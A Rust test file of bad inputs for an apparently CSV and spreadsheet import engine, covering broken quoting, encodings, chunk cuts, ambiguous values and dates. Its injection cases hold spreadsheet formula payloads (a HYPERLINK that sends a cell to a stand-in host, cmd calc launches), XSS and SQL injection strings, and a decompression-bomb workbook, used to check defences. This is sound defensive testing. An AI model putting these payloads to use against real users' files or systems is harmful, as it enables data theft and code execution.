//! Bad inputs and the behaviour each must get: broken tables, doubtful values, hostile texts. One row a case; what concerns
//! the screen is in the browser tests. The whole list is run for every change, and the number of cases is printed.

#![allow(clippy::print_stdout, reason = "the number of cases is the result")]

mod common;

use common::{Import, plan};
use fenji::engine::{JobEnd, LedgerSession, LocalRun};
use fenji::ingest::{FileReport, Role, SNIFF_BYTES, SniffError, Sniffed, sniff, to_utf8};
use fenji::unpack::{Limits, unpack};

/// What must hold.
enum Expect {
    Rows(u64),
    Rejected(u64),
    LeftOut(u64),
    /// Used, rejected, blank, repeated and left out together.
    Conserved(u64),
    /// Money of the used rows.
    Sum(&'static str),
    Customers(usize),
    /// So many customers, those whose rows were rejected by name included.
    CustomersOrRejects(usize),
    Columns(usize),
    Header(usize, &'static str),
    HeaderLine(u64),
    /// A cell of the first rows.
    Cell(usize, usize, &'static str),
    Encoding(&'static str),
    Lacks(Role),
    Question(&'static str),
    /// Code, rows, first line.
    Problem(&'static str, u64, u64),
    /// Refused at the first look, with these words.
    Error(&'static str),
    Packed,
    Unpacked(&'static str),
    Graded,
    /// `customers.csv` holds this text.
    Export(&'static str),
    /// No cell of the file for Excel begins as a formula.
    Guarded,
    /// The result is the same however the file is cut.
    Cuts,
}
use Expect::*;

fn lines(range: std::ops::Range<u32>, line: impl Fn(u32) -> String) -> Vec<u8> {
    range.map(line).collect::<String>().into_bytes()
}

fn gbk(utf8: &[u8]) -> Vec<u8> {
    encoding_rs::GBK.encode(std::str::from_utf8(utf8).unwrap()).0.into_owned()
}

/// Bytes that mean something to a reader of tables, in no order.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 7u64;
    (0..length)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            b",\"\r\n a1\xe4\xb8\xad\xff"[(state >> 33) as usize % 11]
        })
        .collect()
}

type Case = (&'static str, &'static str, fn() -> Vec<u8>, &'static [Expect]);

#[rustfmt::skip]
const CASES: &[Case] = &[
    ("csv-001", "Quoted comma", || b"id,name,amount\n1,\"a,b\",5\n".to_vec(), &[Rows(1)]),
    ("csv-002", "Doubled quote escape", || b"id,name,amount\n1,\"say \"\"hi\"\"\",5\n".to_vec(), &[Rows(1), Cell(0, 1, "say \"hi\"")]),
    ("csv-003", "LF inside quotes", || b"id,name,amount\n1,\"a\nb\",5\n2,c,6\n".to_vec(), &[Rows(2), Sum("11"), Cell(0, 1, "a\nb")]),
    ("csv-005", "LF inside quotes, CRLF outside (PapaParse #457)", || b"id,name,amount\r\n1,\"a\n\nb\",5\r\n2,c,6\r\n".to_vec(), &[Rows(2), Sum("11")]),
    ("csv-006", "Lone CR (old Mac) line endings", || b"id,amount\r1,5\r2,6\r".to_vec(), &[Rows(2), Sum("11")]),
    ("csv-008", "CR CR LF line endings (DuckDB #25164 duplicated rows)", || [b"id,amount\r\r\n".to_vec(), lines(0..10_000, |n| format!("{n},1\r\r\n"))].concat(), &[Rows(10000), Sum("10000"), Cuts]),
    ("csv-009", "No newline at end of file", || b"id,amount\n1,5\n2,6".to_vec(), &[Rows(2), Sum("11")]),
    ("csv-010", "Empty file (0 bytes)", || b"".to_vec(), &[Error("empty")]),
    ("csv-012", "Only newlines / blank lines", || b"\n\r\n\n\n".to_vec(), &[Error("no header")]),
    ("csv-014", "Unclosed quote at row 2 of many", || [b"id,name,amount\n1,ok,5\n2,\"oops,6\n".to_vec(), lines(3..20_003, |n| format!("{n},x,1\n"))].concat(), &[Problem("bad_quote", 1, 3), Rows(20_001)]),
    ("csv-016", "Stray quote in unquoted field", || b"id,name,amount\n1,5\" pipe,5\n2,ok,6\n".to_vec(), &[Rows(2), Sum("11"), Cell(0, 1, "5\" pipe")]),
    ("csv-018", "Backslash-escaped quotes", || b"id,name,amount\n1,\"a \\\"b\\\" c\",5\n2,ok,6\n".to_vec(), &[Rows(2), Cell(1, 1, "ok")]),
    ("csv-020", "Ragged: too few fields", || b"id,name,amount\n1,a,5\n2,b\n3,c,7\n".to_vec(), &[Rows(2), Rejected(1), Sum("12"), Problem("ragged", 1, 3)]),
    ("csv-022", "Trailing delimiter on every data row but not header (DuckDB #12596)", || b"c1,amount\n1,2,\n3,4,\n".to_vec(), &[Rows(2), Sum("6")]),
    ("csv-023", "Semicolon delimiter with decimal comma", || b"id;amount\n1;1234,50\n2;0,50\n".to_vec(), &[Rows(2), Sum("1235.00")]),
    ("csv-025", "Pipe delimiter", || b"id|name|amount\n1|a,b|5\n".to_vec(), &[Rows(1), Cell(0, 1, "a,b")]),
    ("csv-026", "sep= line from Excel", || b"sep=;\nid;amount\n1;5\n".to_vec(), &[Rows(1), Sum("5")]),
    ("csv-027", "Preamble lines before the header", || b"Report: Sales\nGenerated: 2026-01-01\n\nid,date,amount\n1,2026-01-02,5\n".to_vec(), &[HeaderLine(4), Rows(1)]),
    ("csv-028", "Footer total row", || b"id,customer,amount\n1,a,5\n2,b,6\nTotal,,11\n".to_vec(), &[Sum("11"), Rejected(1), Problem("total_row", 1, 4)]),
    ("csv-029", "Duplicate header names", || b"id,amount,amount\n1,5,50\n".to_vec(), &[Columns(3)]),
    ("csv-030", "Empty header names", || b"id,,amount\n1,x,5\n".to_vec(), &[Columns(3)]),
    ("csv-031", "Headers differing in case / spaces / NBSP", || b"Id, id ,ID\xc2\xa0,amount\n1,2,3,4\n".to_vec(), &[Columns(4)]),
    ("csv-033", "One 64 MiB field", || [b"id,name,amount\n1,".to_vec(), vec![b'x'; 64 << 20], b",5\n2,ok,6\n".to_vec()].concat(), &[Rows(1), Rejected(1), Problem("field_too_long", 1, 2)]),
    ("csv-035", "Field of only quotes, odd count", || b"id,name,amount\n1,\"\"\"\"\"\",5\n2,ok,6\n".to_vec(), &[Rows(2), Cell(0, 1, "\"\"")]),
    ("csv-037", "Single-column file", || b"amount\n5\n6\n".to_vec(), &[Rows(2), Lacks(Role::Customer)]),
    ("csv-039", "Quoted header with newline", || b"\"order\nid\",\"amount\"\n1,5\n".to_vec(), &[Rows(1), Header(0, "order id")]),
    ("enc-001", "UTF-8 BOM", || b"\xef\xbb\xbfid,amount\n1,5\n".to_vec(), &[Header(0, "id")]),
    ("enc-003", "UTF-16LE with BOM", || b"\xff\xfei\x00d\x00,\x00n\x00a\x00m\x00e\x00,\x00a\x00m\x00o\x00u\x00n\x00t\x00\r\x00\n\x001\x00,\x00-N\x87e,\x005\x00\r\x00\n\x00".to_vec(), &[Rows(1), Cell(0, 1, "中文"), Encoding("utf-16le")]),
    ("enc-005", "UTF-8 CJK whose sniff window ends mid-character", || [b"id,name,amount\n".to_vec(), lines(0..20_000, |n| format!("{n},中文商品名称{n},1\n"))].concat(), &[Rows(20000), Cuts]),
    ("enc-006", "GBK whole file", || gbk(&[b"id,name,amount\n".to_vec(), lines(0..1000, |n| format!("{n},中文商品名称,1\n"))].concat()), &[Rows(1000), Encoding("gb18030"), Cell(0, 1, "中文商品名称")]),
    ("enc-008", "GBK cell 鞋,帽,雪 (all three chars valid as UTF-8)", || b"id,name,amount\n1,\xd0\xac,5\n2,\xc3\xb1,6\n3,\xd1\xa9,7\n".to_vec(), &[Rows(3)]),
    ("enc-009", "ASCII for 1 MiB then GBK bytes", || [b"id,name,amount\n".to_vec(), lines(0..45_000, |n| format!("{n},plain ascii name,1\n")), gbk("45000,中文商品,1\n".as_bytes())].concat(), &[Rows(45_001), Encoding("gb18030")]),
    ("enc-011", "UTF-8 with one bad byte in a customer key", || b"id,customer,amount\n1,ab\xffc,5\n2,abc,6\n".to_vec(), &[CustomersOrRejects(2)]),
    ("enc-013", "Windows-1252 smart quotes and euro sign", || b"id,name,amount\n1,\x93Caf\xe9\x94,\x805\n".to_vec(), &[Encoding("windows-1252"), Sum("5"), Cell(0, 1, "“Café”")]),
    ("enc-015", "Big5 with 0x7C trail byte (pipe) in pipe-delimited file", || b"id|name|amount\n1|\xbcl|5\n".to_vec(), &[Columns(3), Rows(1)]),
    ("enc-017", "CESU-8 / lone surrogate bytes", || b"id,name,amount\n1,a\xed\xa0\x80b,5\n2,c,6\n".to_vec(), &[Conserved(2)]),
    ("enc-019", "NUL bytes inside fields", || b"id,name,amount\n1,a\x00b,5\n2,ok,6\n".to_vec(), &[Conserved(2)]),
    ("enc-020", "NUL-padded sparse tail", || [b"id,amount\n1,5\n2,6\n".to_vec(), vec![0; 4096]].concat(), &[Rows(2), Rejected(1)]),
    ("enc-021", "NFC vs NFD customer names", || b"id,customer,amount\n1,Caf\xc3\xa9,5\n2,Cafe\xcc\x81,6\n".to_vec(), &[Customers(2)]),
    ("enc-023", "Full-width digits and minus", || b"id,customer,amount\n1,a,\xef\xbc\x91\xef\xbc\x92\xef\xbc\x93\n2,b,\xe2\x88\x925\n".to_vec(), &[Sum("118")]),
    ("enc-024", "PDF/PNG/EXE renamed to .csv", || [b"\x89PNG\r\n\x1a\n".to_vec(), (0..=255).collect::<Vec<u8>>().repeat(64)].concat(), &[Error("a PNG image")]),
    ("enc-025", "XLSX renamed to .csv", || b"PK\x03\x04\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00\x14\x00xl/workbook.xml".to_vec(), &[Packed]),
    ("enc-026", "GZIP renamed to .csv", || b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03\xcbL\xd1I\xcc\xcd/\xcd+\xe12\xd41\xe5\x02\x00\x80S\xc6\xc8\x0e\x00\x00\x00".to_vec(), &[Unpacked("id,amount\n1,5\n")]),
    ("enc-027", "UTF-8 valid text that is also plausible GBK", || b"id,city,amount\n1,\xe4\xb8\x8a\xe6\xb5\xb7,5\n".to_vec(), &[Encoding("utf-8"), Cell(0, 1, "上海")]),
    ("bnd-001", "Quoted newline at every chunk cut", || [b"id,name,amount\n".to_vec(), lines(0..2000, |n| format!("{n},\"line1\nline2,{n}\n\",1\n"))].concat(), &[Rows(2000), Sum("2000"), Cuts]),
    ("bnd-002", "CRLF split between CR and LF", || [b"id,amount\r\n".to_vec(), lines(0..2000, |n| format!("{n},1\r\n"))].concat(), &[Rows(2000), Cuts]),
    ("bnd-004", "4-byte emoji split across chunks", || [b"id,name,amount\n".to_vec(), lines(0..2000, |n| format!("{n},😀👨\u{200d}👩,1\n"))].concat(), &[Cuts]),
    ("bnd-006", "Quoted field that itself looks like a whole CSV (worst case for speculation)", || [b"id,note,amount\n1,\"".to_vec(), lines(0..100_000, |n| format!("{n},x,1\n")), b"\",5\n2,y,6\n".to_vec()].concat(), &[Rows(2), Sum("11"), Cuts]),
    ("bnd-008", "One record longer than a chunk (several chunks without a record end)", || [b"id,note,amount\n1,\"".to_vec(), b"y\n".repeat(3 << 20), b"\",5\n2,z,6\n".to_vec()].concat(), &[Rows(1)]),
    ("bnd-010", "Header longer than the first chunk (PapaParse #1134)", || [b"id".to_vec(), lines(0..8000, |n| format!(",column_name_{n:05}")), b",amount\r\n".to_vec(), [b"1".to_vec(), b",x".repeat(8000), b",5\r\n".to_vec()].concat().repeat(3)].concat(), &[Rows(3), Columns(8002), Header(8001, "amount"), Cuts]),
    ("bnd-011", "BOM split across the first two chunks", || b"\xef\xbb\xbfid,amount\n1,5\n".to_vec(), &[Header(0, "id"), Cuts]),
    ("bnd-012", "Randomised property: 64 KiB of bytes that mean something", || noise(65_536), &[Cuts]),
    ("val-001", "US thousands \"1,234.56\"", || b"id,c,amount\n1,a,\"1,234.56\"\n2,b,\"2,000.44\"\n".to_vec(), &[Sum("3235.00")]),
    ("val-003", "Ambiguous 1.234 and 1,234 only", || b"id;c;amount\n1;a;1.234\n2;b;5.678\n".to_vec(), &[Question("ambiguous_decimal")]),
    ("val-005", "Indian grouping 12,34,567.89", || b"id\tc\tamount\n1\ta\t12,34,567.89\n".to_vec(), &[Sum("1234567.89")]),
    ("val-007", "Accounting negatives (1,234.50)", || b"id,c,amount\n1,a,\"(1,234.50)\"\n2,b,2000\n".to_vec(), &[Sum("765.50")]),
    ("val-009", "Unicode minus U+2212", || b"id,c,amount\n1,a,\xe2\x88\x9212.50\n2,b,20\n".to_vec(), &[Sum("7.50")]),
    ("val-011", "Currency column differs per row", || b"id,c,amount,currency\n1,a,10,USD\n2,b,1000,JPY\n".to_vec(), &[Question("mixed_currency")]),
    ("val-012", "Empty, NULL, N/A, -, null, NaN, inf, #N/A, #DIV/0!", || b"id,c,amount\n0,a,\n1,a,NULL\n2,a,N/A\n3,a,-\n4,a,null\n5,a,NaN\n6,a,inf\n7,a,#N/A\n8,a,#DIV/0!\n9,a,-Infinity\n99,b,5\n".to_vec(), &[Rows(1), Rejected(10), Sum("5")]),
    ("val-013", "Scientific 1.23E+15 in an ID column", || b"order_id,c,amount\n1.23E+15,a,5\n1.23E+15,b,6\n".to_vec(), &[Problem("damaged_id", 2, 0), Rows(2)]),
    ("val-014", "Scientific 1.2e3 in amount", || b"order_id,customer_id,date,amount\n1,c1,2026-01-02,1.2e3\n2,c2,2026-01-03,10\n".to_vec(), &[Sum("1210")]),
    ("val-015", "Leading-zero customer ids 007 vs 7", || b"id,customer,amount\n1,007,5\n2,7,6\n".to_vec(), &[Customers(2)]),
    ("val-017", "Sum order and float error", || [b"id,c,amount\n".to_vec(), b"1,a,0.01\n".repeat(1_000_000)].concat(), &[Sum("10000.00"), Cuts]),
    ("val-018", "Catastrophic cancellation 1e16, 1 x 1000, -1e16", || [b"id,c,amount\n1,a,10000000000000000\n".to_vec(), b"2,a,1\n".repeat(1000), b"3,a,-10000000000000000\n".to_vec()].concat(), &[Sum("1000")]),
    ("val-019", "Overflow: 9e18 and 1e30", || b"id,c,amount\n1,a,9000000000000000000\n2,a,9000000000000000000\n3,a,1e30\n4,b,5\n".to_vec(), &[Rows(3), Rejected(1), Problem("bad_amount", 1, 4)]),
    ("val-021", "All amounts zero", || b"id,c,date,amount\n1,a,2026-01-02,0\n2,b,2026-01-03,0\n".to_vec(), &[Rows(2), Sum("0"), Graded]),
    ("val-022", "Total negative (refunds exceed sales)", || b"id,c,date,amount\n1,a,2026-01-02,10\n2,a,2026-01-03,-50\n3,b,2026-01-03,5\n".to_vec(), &[Sum("-35"), Graded]),
    ("val-023", "Single customer, all equal amounts (quintile ties)", || [b"id,c,date,amount\n".to_vec(), lines(0..100, |n| format!("{n},c{},2026-01-02,10\n", n % 5))].concat(), &[Rows(100), Graded]),
    ("dat-001", "All days <= 12: dd/mm or mm/dd ambiguous", || b"id,c,date,amount\n1,a,03/04/2026,5\n2,b,05/06/2026,6\n".to_vec(), &[Question("ambiguous_date")]),
    ("dat-002", "Evidence late: line 90001 is 25/12/2025", || [b"id,c,date,amount\n".to_vec(), b"1,a,03/04/2025,1\n".repeat(90_000), b"2,b,25/12/2025,1\n".to_vec()].concat(), &[Question("future_date")]),
    ("dat-003", "Conflict: 25/12/2025 and 12/25/2025 in one column", || b"id,c,date,amount\n1,a,25/12/2025,5\n2,b,12/25/2025,6\n".to_vec(), &[Question("ambiguous_date")]),
    ("dat-005", "Impossible: 2026-13-01, 2026-00-10, 2026-04-31, 0000-00-00", || b"id,c,date,amount\n0,a,2026-13-01,1\n1,a,2026-00-10,1\n2,a,2026-04-31,1\n3,a,0000-00-00,1\n9,b,2026-01-02,5\n".to_vec(), &[Rows(1), Rejected(4)]),
    ("dat-007", "Excel fake day 60 (1900-02-29)", || b"id,c,date,amount\n1,a,60,5\n2,b,61,6\n".to_vec(), &[Rejected(2)]),
    ("dat-009", "Future dates past the reference date", || b"id,c,date,amount\n1,a,2099-01-01,5\n2,b,2026-01-01,6\n".to_vec(), &[Question("future_date")]),
    ("dat-010", "Two-digit years 49, 50, 69, 70, 99", || b"id,c,date,amount\n0,a,01/02/49,1\n1,a,01/02/50,1\n2,a,01/02/69,1\n3,a,01/02/70,1\n4,a,01/02/99,1\n".to_vec(), &[Question("ambiguous_date")]),
    ("dat-011", "Offsets: same instant in +00:00, +08:00, Z, no zone", || b"id,c,date,amount\n1,a,2026-01-01T23:30:00Z,1\n2,a,2026-01-02T07:30:00+08:00,1\n3,a,2026-01-01T23:30:00,1\n".to_vec(), &[Rows(3)]),
    ("dat-013", "24:00:00 and 23:59:60", || b"id,c,date,amount\n1,a,2026-01-01T24:00:00,1\n2,a,2026-06-30T23:59:60Z,1\n".to_vec(), &[Conserved(2)]),
    ("dat-015", "Year 9999999, -5, 275761 (past JS Date)", || b"id,c,date,amount\n1,a,9999999-01-01,1\n2,a,-0005-01-01,1\n3,a,275761-01-01,1\n4,b,2026-01-01,1\n".to_vec(), &[Rows(1), Rejected(3)]),
    ("dat-017", "Dates damaged by Excel: Mar-01 (SKU), 1-Dec", || b"id,sku,date,amount\n1,Mar-01,2026-01-02,5\n2,1-Dec,2026-01-03,6\n".to_vec(), &[Lacks(Role::Customer), Cell(0, 1, "Mar-01")]),
    ("biz-001", "Exact duplicate order rows", || b"order_id,c,date,amount\n1,a,2026-01-02,5\n1,a,2026-01-02,5\n2,b,2026-01-03,6\n".to_vec(), &[Rows(3), Problem("repeated_line", 1, 0)]),
    ("biz-003", "Same order id for two customers", || b"order_id,c,date,amount\n1,a,2026-01-02,5\n1,b,2026-01-02,6\n".to_vec(), &[Rows(2), Customers(2), Problem("order_of_two", 1, 0)]),
    ("biz-005", "Cancelled / test orders by status column", || b"order_id,c,date,amount,status\n1,a,2026-01-02,5,paid\n2,a,2026-01-03,900,cancelled\n".to_vec(), &[Rows(1), LeftOut(1), Sum("5")]),
    ("biz-009", "Customer names that are JS/serde special: __proto__, constructor, toString, hasOwnProperty", || b"order_id,c,date,amount\n1,__proto__,2026-01-02,5\n2,constructor,2026-01-02,6\n3,toString,2026-01-02,7\n".to_vec(), &[Customers(3), Sum("18")]),
    ("inj-001", "customer name =HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", || b"order_id,customer,date,amount\n1,\"=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-003", "customer name -2+3+cmd|' /C calc'!A0", || b"order_id,customer,date,amount\n1,\"-2+3+cmd|' /C calc'!A0\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-004", "customer name @SUM(1+1)*cmd|' /C calc'!A0", || b"order_id,customer,date,amount\n1,\"@SUM(1+1)*cmd|' /C calc'!A0\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-005", "customer name \\t=1+1", || b"order_id,customer,date,amount\n1,\"\t=1+1\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-007", "customer name \\n=1+1", || b"order_id,customer,date,amount\n1,\"\n=1+1\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-009", "customer name  =1+1", || b"order_id,customer,date,amount\n1,\" =1+1\",2026-01-02,5\n".to_vec(), &[Rows(1), Guarded]),
    ("inj-011", "Legit values that look risky: -5, +8613800138000, -12.5%, =, -, @name", || b"order_id,customer,date,amount\n1,+8613800138000,2026-01-02,-5\n2,-,2026-01-02,-12.50\n3,@name,2026-01-02,7\n".to_vec(), &[Conserved(3), Export("+8613800138000")]),
    ("inj-013", "Header name =1+1 and preset/grade label =1+1", || b"=1+1,customer,date,amount\n1,a,2026-01-02,5\n".to_vec(), &[Rows(1), Header(0, "=1+1")]),
    ("inj-014", "<img src=x onerror=...>, <script>, <svg onload>, \"><b>", || b"order_id,customer,date,amount\n1,<img src=x onerror=window.__pwn=1>,2026-01-02,5\n2,<script>window.__pwn=1</script>,2026-01-02,6\n3,\"\"\"><svg onload=window.__pwn=1>\",2026-01-02,7\n".to_vec(), &[Rows(3), Customers(3)]),
    ("inj-016", "javascript: and data: links in a url-like column", || b"order_id,customer,date,amount\n1,javascript:window.__pwn=1,2026-01-02,5\n".to_vec(), &[Rows(1)]),
    ("inj-017", "O'Brien'); DROP TABLE x;-- and backslash tail", || b"order_id,customer,date,amount\n1,\"O'Brien'); DROP TABLE t;--\",2026-01-02,5\n2,back\\\\,2026-01-02,6\n3,\"nul\x00x\",2026-01-02,7\n".to_vec(), &[Conserved(3), Export("O'Brien'); DROP TABLE t;--")]),
    ("inj-019", "Control characters 0x00-0x1F, U+FFFE, lone surrogates, _x0041_ in cells", || b"order_id,customer,date,amount\n1,a\x01\x08\x0b\x1fb,2026-01-02,5\n2,_x0041_,2026-01-02,6\n".to_vec(), &[Rows(2), Export("_x0041_")]),
    ("inj-021", "U+2028, </script>, -0, NaN in JSON export", || b"order_id,customer,date,amount\n1,a\xe2\x80\xa8b</script>,2026-01-02,-0\n".to_vec(), &[Rows(1), Sum("0")]),
];

struct Outcome {
    session: LedgerSession,
    end: JobEnd,
    file: FileReport,
    seen: Sniffed,
}

fn run(bytes: &[u8], how: LocalRun) -> Outcome {
    let seen = sniff(&bytes[..bytes.len().min(SNIFF_BYTES)], bytes.len() as u64, None).unwrap();
    let (session, end) = Import { run: how, ..Import::of(bytes) }.end();
    let file = match &end {
        JobEnd::Graded(summary) => summary.files[0].clone(),
        JobEnd::Asks { files, .. } | JobEnd::Nothing { files } => files[0].clone(),
        other => panic!("{other:?}"),
    };
    Outcome { session, end, file, seen }
}

fn check(bytes: &[u8], expect: &Expect, outcome: &Outcome) -> Result<(), String> {
    let Outcome { session, end, file, seen } = outcome;
    let same = |what: &str, found: String, wanted: String| if found == wanted { Ok(()) } else { Err(format!("{what}: {found}, not {wanted}")) };
    let number = |text: &str| text.parse::<f64>().unwrap();
    match expect {
        Rows(rows) => same("used", file.used.to_string(), rows.to_string()),
        Rejected(rows) => same("rejected", file.rejected.to_string(), rows.to_string()),
        LeftOut(rows) => same("left out", file.left_out.to_string(), rows.to_string()),
        Conserved(rows) => same("records", (file.used + file.rejected + file.blank + file.repeated + file.left_out).to_string(), rows.to_string()),
        Sum(sum) => same("sum", number(&file.money[0].to_string()).to_string(), number(sum).to_string()),
        Customers(customers) => same("customers", session.ledger().customers.len().to_string(), customers.to_string()),
        CustomersOrRejects(all) => same("customers", (session.ledger().customers.len() + file.rejected as usize).to_string(), all.to_string()),
        Columns(columns) => same("columns", file.headers.len().to_string(), columns.to_string()),
        Header(column, name) => same("header", file.headers[*column].clone(), (*name).to_owned()),
        HeaderLine(line) => same("header line", file.header_line.to_string(), line.to_string()),
        Cell(row, column, text) => same("cell", seen.rows[*row][*column].clone(), (*text).to_owned()),
        Encoding(name) => same("encoding", file.encoding.clone(), (*name).to_owned()),
        Lacks(role) => same("lacks", plan(bytes, &[]).mapping.missing().contains(role).to_string(), "true".into()),
        Question(code) => match end {
            JobEnd::Asks { questions, .. } => same("question", questions[0].code.id().to_owned(), (*code).to_owned()),
            other => Err(format!("no question but {other:?}").chars().take(300).collect()),
        },
        Problem(code, rows, line) => {
            let found = file.problems.iter().find(|problem| problem.code == *code).map(|problem| (problem.count, problem.first_line));
            same("problem", format!("{found:?}"), format!("{:?}", Some((*rows, *line))))
        }
        Graded => same("graded", matches!(end, JobEnd::Graded(_)).to_string(), "true".into()),
        Export(text) => {
            let csv = String::from_utf8(session.customers_csv(false)).unwrap();
            same("export", csv.contains(text).to_string(), "true".into())
        }
        Guarded => {
            let csv = session.customers_csv(true);
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&csv));
            let live = reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>());
            let live: Vec<String> = live.filter(|cell| cell.trim_start().starts_with(['=', '@']) || cell.starts_with("-2+")).collect();
            same("live formulas", format!("{live:?}"), "[]".into())
        }
        Cuts => {
            // What is read must not depend on the cuts; questions show the same examples.
            let told = |outcome: &Outcome| format!("{:?} {:?}", outcome.file, String::from_utf8_lossy(&outcome.session.customers_csv(false)));
            let whole = told(outcome);
            let all = bytes.len() as u64;
            for slice_bytes in [1, 7, 64, 1024, 65_536].into_iter().filter(|&size| size * 5000 > all) {
                for workers in [1, 3] {
                    let cut = run(bytes, LocalRun { workers, slice_bytes: Some(slice_bytes), newest_first: workers > 1 });
                    if told(&cut) != whole {
                        return Err(format!("slices of {slice_bytes} bytes, {workers} workers"));
                    }
                }
            }
            Ok(())
        }
        Error(_) | Packed | Unpacked(_) => Err("it was read".into()),
    }
}

#[test]
fn every_bad_input_behaves_as_stated() {
    let mut wrong = Vec::new();
    for (id, title, bytes, expects) in CASES {
        let bytes = bytes();
        let refused = sniff(&bytes[..bytes.len().min(SNIFF_BYTES)], bytes.len() as u64, None).err();
        let outcome = refused.is_none().then(|| run(&bytes, LocalRun::default()));
        for expect in *expects {
            let held = match (expect, &refused, &outcome) {
                (Error(words), Some(error), _) if error.to_string().contains(words) => Ok(()),
                (Packed, Some(SniffError::Packed), _) => Ok(()),
                (Unpacked(text), Some(SniffError::Packed), _) => match unpack(&bytes, Limits::default()) {
                    Ok(tables) if tables[0].bytes == text.as_bytes() => Ok(()),
                    other => Err(format!("{other:?}")),
                },
                (expect, None, Some(outcome)) => check(&bytes, expect, outcome),
                (_, refused, _) => Err(format!("{refused:?}")),
            };
            if let Err(reason) = held {
                wrong.push(format!("{id} {title}: {reason}"));
            }
        }
    }
    println!("{} bad inputs", CASES.len());
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert_eq!(CASES.len(), 96);
}

/// A workbook whose only sheet is this part.
fn workbook(sheet: &mut dyn std::io::Read) -> Vec<u8> {
    use std::io::{Cursor, copy};
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet();
    let honest = book.save_to_buffer().unwrap();
    let mut from = zip::ZipArchive::new(Cursor::new(honest)).unwrap();
    let mut to = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for place in 0..from.len() {
        let mut part = from.by_index(place).unwrap();
        let name = part.name().unwrap().into_owned();
        to.start_file(&*name, zip::write::SimpleFileOptions::default()).unwrap();
        if name.starts_with("xl/worksheets/") {
            copy(sheet, &mut to).unwrap()
        } else {
            copy(&mut part, &mut to).unwrap()
        };
    }
    to.finish().unwrap().into_inner()
}

#[test]
fn every_bad_workbook_behaves_as_stated() {
    use fenji::protocol::UnpackError;
    use std::io::Read;
    let sheet = |rows: &str| {
        format!("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{rows}</sheetData></worksheet>")
            .into_bytes()
    };
    // The same workbook around an honest sheet is read.
    let honest = unpack(&workbook(&mut sheet("<row r=\"1\"><c r=\"A1\"><v>7</v></c></row>").as_slice()), Limits::default()).unwrap();
    assert_eq!(honest[0].bytes, b"7");
    let empty = sheet(&format!("<row r=\"1\">{}</row>", "<c r=\"A1\"/>".repeat(200_000)));
    let cases: [(&str, &str, Vec<u8>, &[UnpackError]); 3] = [
        ("zip-001", "511 KB -> 512 MiB", workbook(&mut std::io::repeat(b' ').take(512 << 20)), &[UnpackError::TooLarge]),
        // Cells without a value hold nothing: the limit on bytes ends them, or nothing is left.
        ("zip-003", "cells without a value", workbook(&mut empty.as_slice()), &[UnpackError::TooLarge, UnpackError::NoTable]),
        (
            "zip-003",
            "a cell beyond all rows",
            workbook(&mut sheet("<row r=\"2147483648\"><c r=\"XFE1048577\"><v>1</v></c></row>").as_slice()),
            &[UnpackError::Damaged],
        ),
    ];
    for (id, title, bytes, allowed) in &cases {
        assert!(bytes.len() < 1 << 20, "{id}");
        let outcome = unpack(bytes, Limits::default());
        assert!(outcome.as_ref().is_err_and(|error| allowed.contains(error)), "{id} {title}: {:?}", outcome.map(|tables| tables.len()));
    }
    println!("2 bad inputs of workbooks");
}

#[test]
fn no_text_is_lost_to_a_wrong_encoding() {
    // The replacement sign never comes from reading; files that hold it keep it.
    for (id, _, bytes, _) in CASES.iter().filter(|(id, ..)| ["enc-005", "enc-006", "enc-009", "bnd-004"].contains(id)) {
        let bytes = bytes();
        let seen = plan(&bytes, &[]);
        let text = to_utf8(&bytes, if *id == "enc-009" { fenji::ingest::Encoding::Gb18030 } else { seen.encoding });
        assert!(!String::from_utf8(text).unwrap().contains('\u{fffd}'), "{id}");
    }
}
